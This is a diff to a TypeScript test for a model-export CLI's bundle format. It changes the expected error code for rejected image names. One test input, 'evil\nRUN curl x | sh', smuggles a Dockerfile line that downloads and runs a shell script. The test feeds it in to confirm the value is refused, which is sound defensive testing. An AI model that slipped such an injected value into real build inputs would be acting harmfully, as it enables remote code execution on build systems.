@@ -184,7 +184,7 @@ describe('export --format bundle', () => {
     const bad = path.join(root, 'bad-bundle');
     for (const image of ['evil\nRUN curl x | sh', 'Upper/Case:1']) {
       const err = await exportModel(pkg, { format: 'bundle', out: bad, image }).catch((e: unknown) => e);
-      expect((err as MlctlError).code).toBe('USAGE');
+      expect((err as MlctlError).code).toBe('OPTION_INVALID');
       expect(existsSync(bad)).toBe(false);
     }
     const logger = createMemoryLogger();
